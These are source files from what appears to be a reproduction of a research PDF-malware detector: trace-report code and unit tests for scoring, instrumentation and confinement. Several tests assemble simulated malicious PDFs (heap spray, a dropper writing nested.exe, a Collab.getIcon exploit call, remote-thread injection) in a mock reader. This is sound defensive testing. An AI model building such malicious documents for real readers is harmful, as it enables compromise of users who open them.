            value = f"{record.get('value')}"
        rows.append([record.get("kind", "?"), record.get("key", record.get("name", "?")), value])
    return sorted(rows)


def aggregate_batch(spans: Iterable[SpanRecord]) -> List[List[str]]:
    """Per-status rows from ``batch.document`` spans (``repro batch
    --trace``): count, attempts and worker-side scan-time stats."""
    by_status: Dict[str, List[SpanRecord]] = defaultdict(list)
    for span in spans_named(spans, "batch.document"):
        by_status[span.get("tags", {}).get("status", "?")].append(span)
    rows = []
    for status in sorted(by_status):
        group = by_status[status]
        seconds = [s["tags"].get("scan_seconds", 0.0) for s in group]
        attempts = sum(s["tags"].get("attempts", 0) for s in group)
        rows.append(
            [
                status,
                str(len(group)),
                str(attempts),
                f"{sum(seconds):.4f}",
                f"{max(seconds):.4f}" if seconds else "-",
            ]
        )
    return rows


def aggregate_serve(spans: Iterable[SpanRecord]) -> List[List[str]]:
    """Service rows from ``serve.request`` spans (``repro serve
    --trace``): per-HTTP-status request counts, cache hits, queue wait
    and end-to-end latency."""
    by_status: Dict[str, List[SpanRecord]] = defaultdict(list)
    for span in spans_named(spans, "serve.request"):
        tags = span.get("tags", {})
        status = str(tags.get("status", "?"))
        reason = tags.get("shed_reason")
        if reason:
            status += f" ({reason})"
        by_status[status].append(span)
    all_spans = list(spans)
    rows = []
    for status in sorted(by_status):
        group = by_status[status]
        cached = sum(1 for s in group if s.get("tags", {}).get("cached"))
        waits = [
            child["duration"]
            for root in group
            for child in children_of(all_spans, root)
            if child["name"] == "serve.queue_wait"
        ]
        durations = [s["duration"] for s in group]
        rows.append(
            [
                status,
                str(len(group)),
                str(cached),
                f"{max(waits):.4f}" if waits else "-",
                f"{sum(durations) / len(durations):.4f}",
                f"{max(durations):.4f}",
            ]
        )
    return rows


def aggregate_slowest(
    spans: Iterable[SpanRecord], top: int = 5
) -> List[List[str]]:
    """The slowest individual scans/requests with a child breakdown.

    Ranks ``pipeline.scan`` and ``serve.request`` spans by duration and
    shows where each one spent its time (direct-child spans, busiest
    first) — the trace-file counterpart of the service's ``GET
    /debug/slow`` exemplar buffer.
    """
    all_spans = list(spans)
    roots = [
        s for s in all_spans if s["name"] in ("pipeline.scan", "serve.request")
    ]
    roots.sort(key=lambda s: -s["duration"])
    rows = []
    for root in roots[: max(0, top)]:
        tags = root.get("tags", {})
        label = str(
            tags.get("document") or tags.get("name") or root["name"]
        )
        # Span ids are per-process counters, so concatenated traces (or
        # process-backend workers) can alias them.  Require children to
        # fall inside the root's [start, end] window as well.
        start, end = root.get("start"), root.get("end")
        if start is not None and end is not None:
            candidates = [
                s
                for s in all_spans
                if s.get("start") is not None
                and s.get("end") is not None
                and s["start"] >= start - 1e-9
                and s["end"] <= end + 1e-9
            ]
        else:
            candidates = all_spans
        breakdown = sorted(
            child_durations(candidates, root).items(), key=lambda kv: -kv[1]
        )
        detail = ", ".join(
            f"{name} {seconds:.4f}s" for name, seconds in breakdown[:4]
        )
        rows.append(
            [
                root["name"],
                label,
                f"{root['duration']:.4f}",
                detail or "-",
            ]
        )
    return rows


def aggregate_jsast(spans: Iterable[SpanRecord]) -> List[List[str]]:
    """Static-analysis rows from ``jsast.analyze`` spans: per-outcome
    script counts and analysis latency."""
    groups: Dict[str, List[SpanRecord]] = defaultdict(list)
    for span in spans_named(spans, "jsast.analyze"):
        tags = span.get("tags", {})
        if tags.get("suspicious"):
            outcome = "suspicious"
        elif tags.get("eligible"):
            outcome = "clean (triage-eligible)"
        else:
            outcome = "clean (needs emulation)"
        groups[outcome].append(span)
    rows = []
    for outcome in sorted(groups):
        group = groups[outcome]
        findings = sum(s.get("tags", {}).get("findings", 0) for s in group)
        total = sum(s["duration"] for s in group)
        rows.append(
            [outcome, str(len(group)), str(findings), f"{total:.4f}"]
        )
    return rows


def aggregate_triage(metrics: Iterable[Dict[str, Any]]) -> List[List[str]]:
    """Rows for triage-outcome counters: how many scans the proof tier
    settled in each direction, and why the rest fell through."""
    rows = []
    for record in metrics:
        key = str(record.get("key", record.get("name", "")))
        base = key.split("{", 1)[0]
        if base == "triage_proven_benign":
            rows.append(["proven benign", "-", str(record.get("value"))])
        elif base == "triage_proven_malicious":
            rows.append(["proven malicious", "-", str(record.get("value"))])
        elif base == "triage_failed_open":
            reason = "?"
            if "reason=" in key:
                reason = key.split("reason=", 1)[1].rstrip("}")
            rows.append(["failed open", reason, str(record.get("value"))])
    return sorted(rows)


def aggregate_cluster(metrics: Iterable[Dict[str, Any]]) -> List[List[str]]:
    """Rows for the cluster router's counters (``repro cluster
    --trace``): routed requests by status, respawns by reason, and the
    router-side latency histogram."""
    rows = []
    for record in metrics:
        key = str(record.get("key", record.get("name", "")))
        base = key.split("{", 1)[0]
        if base == "cluster_requests":
            status = "?"
            if "status=" in key:
                status = key.split("status=", 1)[1].rstrip("}")
            rows.append(["requests", status, str(record.get("value"))])
        elif base == "cluster_respawns":
            reason = "?"
            if "reason=" in key:
                reason = key.split("reason=", 1)[1].rstrip("}")
            rows.append(["respawns", reason, str(record.get("value"))])
        elif (
            base == "cluster_router_latency_seconds"
            and record.get("kind") == "histogram"
        ):
            rows.append([
                "router latency", "-",
                f"count={record.get('count')} "
                f"mean={record.get('mean', 0):.4g}s "
                f"max={record.get('max', 0):.4g}s",
            ])
    return sorted(rows)


def aggregate_limits(metrics: Iterable[Dict[str, Any]]) -> List[List[str]]:
    """Rows for ``limits_hit{kind=...}`` counters: which resource
    budgets aborted scans, and how often."""
    rows = []
    for record in metrics:
        key = str(record.get("key", record.get("name", "")))
        if not key.startswith("limits_hit"):
            continue
        kind = "?"
        if "kind=" in key:
            kind = key.split("kind=", 1)[1].rstrip("}")
        rows.append([kind, str(record.get("value"))])
    return sorted(rows)


def render_report(path: Union[str, Path]) -> str:
    """The full ``repro report`` output for one JSONL trace."""
    from repro.analysis import format_table

    trace = read_trace(path)
    sections: List[str] = []

    batch_rows = aggregate_batch(trace["spans"])
    if batch_rows:
        sections.append(
            "Batch documents (by status)\n"
            + format_table(
                ["status", "documents", "attempts", "scan total (s)",
                 "scan max (s)"],
                batch_rows,
            )
        )
    serve_rows = aggregate_serve(trace["spans"])
    if serve_rows:
        sections.append(
            "Service requests (serve.request spans)\n"
            + format_table(
                ["status", "requests", "cached", "queue max (s)",
                 "latency mean (s)", "latency max (s)"],
                serve_rows,
            )
        )
    jsast_rows = aggregate_jsast(trace["spans"])
    if jsast_rows:
        sections.append(
            "Static JS analysis (jsast.analyze spans)\n"
            + format_table(
                ["outcome", "scripts", "findings", "total (s)"], jsast_rows
            )
        )
    slow_rows = aggregate_slowest(trace["spans"])
    if slow_rows:
        sections.append(
            "Slowest scans\n"
            + format_table(
                ["span", "document", "seconds", "breakdown"], slow_rows
            )
        )
    span_rows = aggregate_spans(trace["spans"])
    if span_rows:
        sections.append(
            "Per-phase latency (spans)\n"
            + format_table(
                ["span", "count", "total (s)", "mean (s)", "max (s)"], span_rows
            )
        )
    cluster_rows = aggregate_cluster(trace["metrics"])
    if cluster_rows:
        sections.append(
            "Cluster router\n"
            + format_table(["metric", "label", "value"], cluster_rows)
        )
    triage_rows = aggregate_triage(trace["metrics"])
    if triage_rows:
        sections.append(
            "Triage outcomes\n"
            + format_table(["outcome", "reason", "scans"], triage_rows)
        )
    limit_rows = aggregate_limits(trace["metrics"])
    if limit_rows:
        sections.append(
            "Resource limits hit\n"
            + format_table(["limit kind", "scans aborted"], limit_rows)
        )
    event_rows = aggregate_events(trace["events"])
    if event_rows:
        sections.append(
            "Event counts\n" + format_table(["event", "count"], event_rows)
        )
    metric_rows = aggregate_metrics(trace["metrics"])
    if metric_rows:
        sections.append(
            "Metrics\n" + format_table(["kind", "metric", "value"], metric_rows)
        )
    if not sections:
        return f"(no records in {path})"
    return "\n\n".join(sections)
