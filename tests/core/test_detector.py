"""Unit tests for the malscore detector (Eq. 1, Table VII)."""

import pytest

from repro.core.detector import (
    DetectorConfig,
    DocumentScoreState,
    F_DROP,
    F_INJECT,
    F_MEMORY,
    F_NETWORK,
    F_OUT_INJECT,
    F_OUT_PROCESS,
    F_PROCESS,
    FeatureVector,
    IN_JS_FEATURES,
    MalscoreDetector,
    OUT_JS_FEATURES,
    STATIC_FEATURES,
)
from repro.core.static_features import StaticFeatures


def static(**overrides) -> StaticFeatures:
    values = dict(
        js_chain_ratio=0.0,
        header_obfuscated=False,
        hex_code_in_keyword=False,
        empty_object_count=0,
        encoding_levels=0,
        has_javascript=True,
    )
    values.update(overrides)
    return StaticFeatures(**values)


class TestTableVII:
    def test_default_parameters(self):
        config = DetectorConfig()
        assert config.w1 == 1.0
        assert config.w2 == 9.0
        assert config.threshold == 10.0
        assert config.memory_threshold_bytes == 100 * 1024 * 1024
        assert config.ratio_threshold == 0.2

    def test_feature_partition(self):
        assert STATIC_FEATURES == (1, 2, 3, 4, 5)
        assert OUT_JS_FEATURES == (6, 7)
        assert IN_JS_FEATURES == (8, 9, 10, 11, 12, 13)


class TestMalscore:
    def test_equation_one(self):
        vector = FeatureVector((1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 1, 0, 0))
        # first part = F1+F2+F6 = 3; second = F8+F11 = 2
        assert vector.malscore(DetectorConfig()) == 3 + 9 * 2

    def test_all_static_alone_insufficient(self):
        vector = FeatureVector((1, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0))
        assert vector.malscore(DetectorConfig()) == 7 < 10

    def test_single_in_js_alone_insufficient(self):
        vector = FeatureVector((0,) * 7 + (1, 0, 0, 0, 0, 0))
        assert vector.malscore(DetectorConfig()) == 9 < 10

    def test_one_in_js_plus_one_other_is_detection(self):
        vector = FeatureVector((1,) + (0,) * 6 + (1,) + (0,) * 5)
        assert vector.malscore(DetectorConfig()) == 10

    def test_two_in_js_alone_is_detection(self):
        vector = FeatureVector((0,) * 7 + (1, 1, 0, 0, 0, 0))
        assert vector.malscore(DetectorConfig()) == 18 >= 10

    def test_invalid_vector_rejected(self):
        with pytest.raises(ValueError):
            FeatureVector((1,) * 12)
        with pytest.raises(ValueError):
            FeatureVector((2,) + (0,) * 12)

    def test_indexing_is_one_based(self):
        vector = FeatureVector((1,) + (0,) * 12)
        assert vector[1] == 1
        assert vector[13] == 0

    def test_fired_names(self):
        vector = FeatureVector((0,) * 7 + (1,) + (0,) * 5)
        assert vector.fired() == [8]
        assert "memory" in vector.fired_names()[0]


class TestDocumentScoreState:
    def test_in_js_recording_activates(self):
        state = DocumentScoreState("k", "d.pdf", static())
        assert not state.activated
        state.record_in_js(F_DROP, "NtCreateFile(evil.exe)")
        assert state.activated
        assert 11 in state.fired

    def test_out_js_recording_does_not_activate(self):
        state = DocumentScoreState("k", "d.pdf", static())
        state.record_out_js(F_OUT_PROCESS, "x")
        assert not state.activated

    def test_wrong_category_rejected(self):
        state = DocumentScoreState("k", "d.pdf", static())
        with pytest.raises(ValueError):
            state.record_in_js(F_OUT_PROCESS, "x")
        with pytest.raises(ValueError):
            state.record_out_js(F_MEMORY, "x")

    def test_feature_vector_combines_static_and_runtime(self):
        state = DocumentScoreState("k", "d.pdf", static(js_chain_ratio=0.9))
        state.record_in_js(F_MEMORY, "spray")
        vector = state.feature_vector()
        assert vector[1] == 1 and vector[8] == 1

    def test_state_without_static_features(self):
        state = DocumentScoreState("k", "d.pdf", None)
        state.record_in_js(F_NETWORK, "connect")
        assert state.feature_vector().malscore(DetectorConfig()) == 9


class TestVerdicts:
    def test_paper_criterion(self):
        """Malicious iff ≥1 in-JS feature AND ≥1 other feature."""
        detector = MalscoreDetector()
        config = DetectorConfig()
        for in_js_count in range(0, 7):
            for other_count in range(0, 8):
                bits = [0] * 13
                for i in range(other_count):
                    bits[i] = 1  # F1..F7
                for i in range(in_js_count):
                    bits[7 + i] = 1  # F8..F13
                vector = FeatureVector(tuple(bits))
                expected = (in_js_count >= 1 and other_count >= 1) or in_js_count >= 2
                assert (vector.malscore(config) >= config.threshold) == expected

    def test_benign_soap_sample_from_paper(self):
        """§V-C2: one benign doc fired in-JS network access only →
        malscore 9 < 10 → still classified benign."""
        detector = MalscoreDetector()
        state = DocumentScoreState("k", "soap.pdf", static())
        state.record_in_js(F_NETWORK, "SOAP status call")
        verdict = detector.evaluate(state)
        assert not verdict.malicious
        assert verdict.malscore == 9

    def test_fake_message_zero_tolerance(self):
        detector = MalscoreDetector()
        state = DocumentScoreState("k", "fake.pdf", static())
        state.fake_message = True
        verdict = detector.evaluate(state)
        assert verdict.malicious
        assert any("fake" in reason for reason in verdict.reasons)

    def test_fake_message_tolerance_configurable(self):
        detector = MalscoreDetector(DetectorConfig(fake_message_is_malicious=False))
        state = DocumentScoreState("k", "fake.pdf", static())
        state.fake_message = True
        assert not detector.evaluate(state).malicious

    def test_summary_format(self):
        detector = MalscoreDetector()
        state = DocumentScoreState("k", "doc.pdf", static(js_chain_ratio=0.5))
        state.record_in_js(F_PROCESS, "x")
        summary = detector.evaluate(state).summary()
        assert "MALICIOUS" in summary and "doc.pdf" in summary

    def test_dll_injection_features(self):
        detector = MalscoreDetector()
        state = DocumentScoreState("k", "inj.pdf", static())
        state.record_in_js(F_INJECT, "CreateRemoteThread")
        state.record_out_js(F_OUT_INJECT, "CreateRemoteThread")
        verdict = detector.evaluate(state)
        assert verdict.malicious  # 9 + 1 = 10
