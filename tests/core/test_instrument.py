"""Unit tests for the front-end instrumenter (Phase I)."""


from repro.core.instrument import (
    Instrumenter,
    estimate_python_objects,
    find_runtime_script_methods,
)
from repro.core.keys import KeyStore
from repro.pdf import encryption
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument


def make_instrumenter(seed=11):
    return Instrumenter(key_store=KeyStore.create(seed), seed=seed)


def js_builder(code="var a = 1;", **kwargs) -> DocumentBuilder:
    builder = DocumentBuilder()
    builder.add_page("x")
    builder.add_javascript(code, **kwargs)
    return builder


class TestBasicInstrumentation:
    def test_script_is_wrapped(self):
        result = make_instrumenter().instrument(js_builder().to_bytes())
        assert result.instrumented_scripts == 1
        doc = PDFDocument.from_bytes(result.data)
        (action,) = list(doc.iter_javascript_actions())
        code = doc.get_javascript_code(action)
        assert "SOAP.request" in code
        assert "var a = 1;" not in code  # encrypted

    def test_spec_records_original(self):
        result = make_instrumenter().instrument(js_builder("var orig = 7;").to_bytes())
        assert result.spec.entries[0].original_code == "var orig = 7;"

    def test_no_js_document_untouched(self, simple_doc_bytes):
        result = make_instrumenter().instrument(simple_doc_bytes)
        assert result.instrumented_scripts == 0
        assert result.data == simple_doc_bytes
        assert not result.has_javascript

    def test_marker_written(self):
        result = make_instrumenter().instrument(js_builder().to_bytes())
        doc = PDFDocument.from_bytes(result.data)
        assert "CtxMonKey" in doc.catalog

    def test_reinstrumentation_detected(self):
        instrumenter = make_instrumenter()
        first = instrumenter.instrument(js_builder().to_bytes())
        second = instrumenter.instrument(first.data)
        assert second.already_instrumented
        assert second.data == first.data

    def test_duplicate_bytes_same_key(self):
        instrumenter = make_instrumenter()
        data = js_builder().to_bytes()
        assert (
            instrumenter.instrument(data).key_text
            == instrumenter.instrument(data).key_text
        )

    def test_features_extracted(self):
        builder = js_builder(hex_obfuscate_keyword=True, encoding_levels=2)
        result = make_instrumenter().instrument(builder.to_bytes())
        assert result.features.f3 == 1
        assert result.features.f5 == 1

    def test_timings_populated(self):
        result = make_instrumenter().instrument(js_builder().to_bytes())
        assert result.timings.total > 0
        assert result.timings.parse_decompress >= 0

    def test_stream_stored_script_wrapped_in_place(self):
        builder = js_builder("var streamy = 1;", encoding_levels=2)
        result = make_instrumenter().instrument(builder.to_bytes())
        doc = PDFDocument.from_bytes(result.data)
        (action,) = list(doc.iter_javascript_actions())
        assert "SOAP.request" in doc.get_javascript_code(action)


class TestSequentialMerging:
    def test_next_chain_merged_under_one_wrapper(self):
        builder = js_builder("var a = 1;", next_scripts=["var b = 2;", "var c = 3;"])
        result = make_instrumenter().instrument(builder.to_bytes())
        assert result.instrumented_scripts == 1
        assert result.merged_sequential_scripts == 2
        doc = PDFDocument.from_bytes(result.data)
        codes = [doc.get_javascript_code(a) for a in doc.iter_javascript_actions()]
        # head carries the wrapper; successors blanked
        assert sum(1 for c in codes if "SOAP.request" in c) == 1
        assert codes.count("") == 2

    def test_separate_scripts_wrapped_separately(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var one = 1;", trigger="Names", name="one")
        builder.add_javascript("var two = 2;", trigger="OpenAction")
        result = make_instrumenter().instrument(builder.to_bytes())
        assert result.instrumented_scripts == 2

    def test_spec_covers_merged_scripts(self):
        builder = js_builder("var a = 1;", next_scripts=["var b = 2;"])
        result = make_instrumenter().instrument(builder.to_bytes())
        originals = {e.original_code for e in result.spec.entries}
        assert originals == {"var a = 1;", "var b = 2;"}


class TestEncryptedDocuments:
    def test_owner_password_removed_then_instrumented(self):
        builder = js_builder("var locked = 1;")
        doc = builder.build()
        encryption.encrypt_document(doc, "ownerpw")
        result = make_instrumenter().instrument(doc.to_bytes())
        assert result.was_encrypted
        assert result.instrumented_scripts == 1
        out = PDFDocument.from_bytes(result.data)
        assert "Encrypt" not in out.trailer


class TestRuntimeMethodScan:
    def test_finds_table_iv_methods(self):
        code = "this.addScript('n', c); app.setTimeOut(c, 5); x.setPageAction(0, 'O', c);"
        found = find_runtime_script_methods(code)
        assert "addScript" in found
        assert "setTimeOut" in found
        assert "setPageAction" in found

    def test_clean_code_finds_nothing(self):
        assert find_runtime_script_methods("var a = 1 + 2;") == []

    def test_recorded_in_result(self):
        builder = js_builder("app.setTimeOut('x()', 9);")
        result = make_instrumenter().instrument(builder.to_bytes())
        assert "setTimeOut" in result.runtime_script_methods


class TestEstimates:
    def test_python_object_estimate_scales(self):
        small = PDFDocument.from_bytes(js_builder().to_bytes())
        big_builder = js_builder()
        big_builder.pad_with_objects(100)
        big = PDFDocument.from_bytes(big_builder.to_bytes())
        assert estimate_python_objects(big) > estimate_python_objects(small)
