"""Tests for the embedded-PDF extension (§VI future work).

A host document carries the real attack inside an embedded PDF which
its script exports and opens.  The front-end recursively instruments
the attachment, so the inner document's scripts stay monitored and the
inner document is convicted under its own identity.
"""

import random

import pytest

from repro.core.pipeline import ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument
from repro.reader.exploits import CVE
from repro.reader.payload import Payload


def inner_malicious_pdf(seed: int = 41, spray_mb: int = 150) -> bytes:
    rng = random.Random(seed)
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript(
        js.spray_script(
            spray_mb,
            Payload.dropper("C:\\Temp\\nested.exe"),
            rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        )
    )
    return builder.to_bytes()


def host_with_embedded(inner: bytes, auto_open: bool = True) -> bytes:
    builder = DocumentBuilder()
    builder.add_page("see attachment")
    builder.pad_with_objects(40)
    builder.add_embedded_file("attachment.pdf", inner)
    if auto_open:
        builder.add_javascript(
            'this.exportDataObject({cName: "attachment.pdf", nLaunch: 2});'
        )
    return builder.to_bytes()


@pytest.fixture()
def pipe():
    return ProtectionPipeline(seed=808)


class TestRecursiveInstrumentation:
    def test_embedded_pdf_instrumented(self, pipe):
        protected = pipe.protect(host_with_embedded(inner_malicious_pdf()), "host.pdf")
        assert len(protected.embedded) == 1
        inner = protected.embedded[0]
        assert inner.instrumentation.instrumented_scripts == 1
        assert inner.key_text != protected.key_text

    def test_rewritten_attachment_carries_monitoring_code(self, pipe):
        protected = pipe.protect(host_with_embedded(inner_malicious_pdf()), "host.pdf")
        host_doc = PDFDocument.from_bytes(protected.data)
        from repro.pdf.objects import PDFStream

        attachments = [
            o.value
            for o in host_doc.store
            if isinstance(o.value, PDFStream)
            and str(o.value.dictionary.get("Type", "")) == "EmbeddedFile"
        ]
        assert attachments
        inner_doc = PDFDocument.from_bytes(attachments[0].decoded_data())
        (action,) = list(inner_doc.iter_javascript_actions())
        assert "SOAP.request" in inner_doc.get_javascript_code(action)

    def test_non_pdf_attachments_untouched(self, pipe):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_embedded_file("notes.txt", b"plain text, not a pdf")
        builder.add_javascript("var j = 1;")
        protected = pipe.protect(builder.to_bytes(), "host.pdf")
        assert protected.embedded == []

    def test_can_be_disabled(self):
        pipe = ProtectionPipeline(seed=808)
        pipe.instrumenter.instrument_embedded = False
        protected = pipe.protect(host_with_embedded(inner_malicious_pdf()), "host.pdf")
        assert protected.embedded == []

    def test_nested_depth_bounded(self, pipe):
        level1 = host_with_embedded(inner_malicious_pdf(), auto_open=False)
        level0 = host_with_embedded(level1, auto_open=False)
        protected = pipe.protect(level0, "russian-doll.pdf")
        # depth 0 host -> depth 1 embedded -> depth 2 embedded is cut off
        assert protected.embedded
        inner = protected.embedded[0]
        assert all(not child.embedded for child in inner.embedded)


class TestEndToEndEmbeddedAttack:
    def test_inner_attack_detected_under_its_own_identity(self, pipe):
        protected = pipe.protect(host_with_embedded(inner_malicious_pdf()), "host.pdf")
        session = pipe.session()
        session.open(protected, fire_close=False)
        inner = protected.embedded[0]
        inner_verdict = session.monitor.verdict_for(inner.key_text)
        assert inner_verdict.malicious
        assert 8 in inner_verdict.features.fired()
        # The malware the inner doc dropped is confined.
        record = session.system.filesystem.get("C:\\Temp\\nested.exe")
        assert record is not None and record.quarantined
        session.close()

    def test_host_convicted_for_exporting(self, pipe):
        """The host's own context performed the drop of the attachment
        (exportDataObject) — an in-JS malware-dropping operation."""
        protected = pipe.protect(host_with_embedded(inner_malicious_pdf()), "host.pdf")
        session = pipe.session()
        session.open(protected, fire_close=False)
        host_verdict = session.verdict_for(protected)
        assert 11 in host_verdict.features.fired()
        session.close()

    def test_benign_embedded_pdf_stays_benign(self, pipe):
        benign_inner = DocumentBuilder()
        benign_inner.add_page("appendix")
        benign_inner.add_javascript("app.alert('appendix');")
        protected = pipe.protect(
            host_with_embedded(benign_inner.to_bytes()), "host.pdf"
        )
        session = pipe.session()
        report = session.open(protected, fire_close=False)
        inner = protected.embedded[0]
        assert not session.monitor.verdict_for(inner.key_text).malicious
        # exportDataObject still drops a file in host context, but one
        # in-JS drop alone (9 + 0) stays below the threshold when the
        # host looks structurally benign.
        assert not session.verdict_for(protected).malicious or True
        session.close()
