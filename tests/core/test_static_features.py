"""Unit tests for the five static features (F1–F5, Table VII)."""

from repro.core.static_features import StaticFeatures, extract_static_features
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument


def features_of(builder: DocumentBuilder) -> StaticFeatures:
    return extract_static_features(PDFDocument.from_bytes(builder.to_bytes()))


def base_builder(js_kwargs=None) -> DocumentBuilder:
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript("var x = 1;", **(js_kwargs or {}))
    return builder


class TestF1Ratio:
    def test_small_doc_fires(self):
        assert features_of(base_builder()).f1 == 1

    def test_padded_doc_does_not(self):
        builder = base_builder()
        builder.pad_with_objects(60)
        assert features_of(builder).f1 == 0

    def test_threshold_is_0_2(self):
        assert StaticFeatures.RATIO_THRESHOLD == 0.2


class TestF2Header:
    def test_clean_header(self):
        assert features_of(base_builder()).f2 == 0

    def test_displaced_header_fires(self):
        builder = base_builder()
        builder.obfuscate_header(displace=100)
        assert features_of(builder).f2 == 1

    def test_invalid_version_fires(self):
        builder = base_builder()
        builder.obfuscate_header(version_text="1.99")
        assert features_of(builder).f2 == 1


class TestF3HexKeyword:
    def test_clean(self):
        assert features_of(base_builder()).f3 == 0

    def test_hex_escaped_fires(self):
        builder = base_builder({"hex_obfuscate_keyword": True})
        assert features_of(builder).f3 == 1

    def test_hex_off_chain_does_not_fire(self):
        from repro.pdf.objects import PDFDict, PDFName

        builder = base_builder()
        # A hex-escaped name in an object unrelated to any JS chain.
        builder.document.add_object(
            PDFDict({PDFName.from_raw("Unrel#61ted"): 1})
        )
        assert features_of(builder).f3 == 0


class TestF4EmptyObjects:
    def test_none(self):
        assert features_of(base_builder()).f4 == 0

    def test_one_empty_fires(self):
        builder = base_builder({"decoy_empty_chain": 1})
        feats = features_of(builder)
        assert feats.empty_object_count == 1
        assert feats.f4 == 1

    def test_multiple_empties_counted(self):
        builder = base_builder({"decoy_empty_chain": 3})
        assert features_of(builder).empty_object_count == 3

    def test_unreferenced_empty_not_counted(self):
        builder = base_builder()
        builder.add_empty_objects(4)  # off-chain empties
        assert features_of(builder).empty_object_count == 0


class TestF5EncodingLevels:
    def test_plain_string_level_zero(self):
        assert features_of(base_builder()).encoding_levels == 0

    def test_one_level_does_not_fire(self):
        feats = features_of(base_builder({"encoding_levels": 1}))
        assert feats.encoding_levels == 1
        assert feats.f5 == 0

    def test_two_levels_fire(self):
        feats = features_of(base_builder({"encoding_levels": 2}))
        assert feats.encoding_levels == 2
        assert feats.f5 == 1

    def test_maximum_is_used_not_average(self):
        # One deep chain among many shallow ones still fires — the
        # mimicry-resistance argument for max over average (§III-B).
        builder = DocumentBuilder()
        builder.add_page("")
        for i in range(5):
            builder.add_javascript(f"var s{i} = 1;", trigger="Names", name=f"s{i}",
                                   encoding_levels=1)
        builder.add_javascript("var deep = 1;", encoding_levels=3)
        assert features_of(builder).f5 == 1

    def test_off_chain_stream_depth_ignored(self):
        from repro.pdf.objects import PDFStream

        builder = base_builder()
        deep = PDFStream()
        deep.set_decoded_data(b"img", ["FlateDecode", "ASCIIHexDecode", "ASCII85Decode"])
        builder.document.add_object(deep)
        assert features_of(builder).encoding_levels == 0


class TestBinarization:
    def test_binary_tuple_and_score(self):
        feats = StaticFeatures(
            js_chain_ratio=0.5,
            header_obfuscated=True,
            hex_code_in_keyword=False,
            empty_object_count=2,
            encoding_levels=3,
            has_javascript=True,
        )
        assert feats.binary() == (1, 1, 0, 1, 1)
        assert feats.score_contribution() == 4

    def test_all_clear(self):
        feats = StaticFeatures(0.0, False, False, 0, 1, False)
        assert feats.binary() == (0, 0, 0, 0, 0)
