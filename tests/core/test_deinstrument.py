"""Unit tests for de-instrumentation (§III-F)."""

import pytest

from repro.core.deinstrument import (
    DeinstrumentationError,
    DeinstrumentationPolicy,
    DeinstrumentationSpec,
    deinstrument,
)
from repro.core.instrument import Instrumenter
from repro.core.keys import KeyStore
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument


def instrument(code="var original = 123;", **kwargs):
    builder = DocumentBuilder()
    builder.add_page("x")
    builder.add_javascript(code, **kwargs)
    instrumenter = Instrumenter(key_store=KeyStore.create(3), seed=3)
    return instrumenter.instrument(builder.to_bytes())


class TestDeinstrument:
    def test_restores_original_code(self):
        result = instrument()
        restored = deinstrument(result.data, result.spec)
        doc = PDFDocument.from_bytes(restored)
        (action,) = list(doc.iter_javascript_actions())
        assert doc.get_javascript_code(action) == "var original = 123;"

    def test_marker_removed(self):
        result = instrument()
        doc = PDFDocument.from_bytes(deinstrument(result.data, result.spec))
        assert "CtxMonKey" not in doc.catalog

    def test_sequential_scripts_restored(self):
        result = instrument("var a = 1;", next_scripts=["var b = 2;"])
        doc = PDFDocument.from_bytes(deinstrument(result.data, result.spec))
        codes = [doc.get_javascript_code(a) for a in doc.iter_javascript_actions()]
        assert codes == ["var a = 1;", "var b = 2;"]

    def test_uninstrumented_document_rejected(self, js_doc_bytes):
        result = instrument()
        with pytest.raises(DeinstrumentationError):
            deinstrument(js_doc_bytes, result.spec)

    def test_mismatched_spec_rejected(self):
        result = instrument()
        wrong = DeinstrumentationSpec(key_text="x", document_name="y")
        wrong.entries = result.spec.entries + result.spec.entries  # extra entries
        with pytest.raises(DeinstrumentationError):
            deinstrument(result.data, wrong)

    def test_spec_serialization_roundtrip(self):
        result = instrument()
        revived = DeinstrumentationSpec.from_dict(result.spec.to_dict())
        restored = deinstrument(result.data, revived)
        doc = PDFDocument.from_bytes(restored)
        (action,) = list(doc.iter_javascript_actions())
        assert doc.get_javascript_code(action) == "var original = 123;"

    def test_restored_document_executes_cleanly(self):
        from repro.reader import Reader

        result = instrument("app.alert('restored');")
        restored = deinstrument(result.data, result.spec)
        outcome = Reader().open(restored)
        assert outcome.handle.alerts == ["restored"]


class TestPolicy:
    def test_at_once_default(self):
        policy = DeinstrumentationPolicy()
        assert policy.record_benign_open("k") is True

    def test_configurable_open_count(self):
        policy = DeinstrumentationPolicy(opens_before=3)
        assert not policy.record_benign_open("k")
        assert not policy.record_benign_open("k")
        assert policy.record_benign_open("k")

    def test_randomized_window_bounded(self):
        policy = DeinstrumentationPolicy(opens_before=1, randomize_window=2, seed=5)
        opens = 0
        while not policy.record_benign_open("k"):
            opens += 1
            assert opens <= 3

    def test_reset_clears_progress(self):
        policy = DeinstrumentationPolicy(opens_before=2)
        policy.record_benign_open("k")
        policy.reset("k")
        assert not policy.record_benign_open("k")

    def test_per_document_isolation(self):
        policy = DeinstrumentationPolicy(opens_before=2)
        policy.record_benign_open("a")
        assert not policy.record_benign_open("b")
