"""Unit tests for the Table III confinement rules."""

from repro.core.confine import build_hook_rules
from repro.winapi.hooks import HookAction
from repro.winapi.process import System
from repro.winapi.syscalls import API, SyscallEvent


def event(api, **args):
    return SyscallEvent(api=api, args=args, pid=1, seq=1, time=0.0)


def rules():
    return build_hook_rules(whitelisted_programs=("WerFault.exe", "AdobeARM.exe"))


class TestHookRules:
    def test_malware_drop_passes_through(self):
        table = rules()
        process = System().spawn_reader()
        for api in API.MALWARE_DROP:
            assert table[api](process, event(api, path="C:\\x.exe")) is HookAction.PASS

    def test_network_observed_not_blocked(self):
        table = rules()
        process = System().spawn_reader()
        for api in API.NETWORK:
            assert table[api](process, event(api, host="h", port=1)) is HookAction.PASS

    def test_memory_search_observed(self):
        table = rules()
        process = System().spawn_reader()
        for api in API.MEMORY_SEARCH:
            assert table[api](process, event(api, address=0)) is HookAction.PASS

    def test_process_creation_rejected(self):
        table = rules()
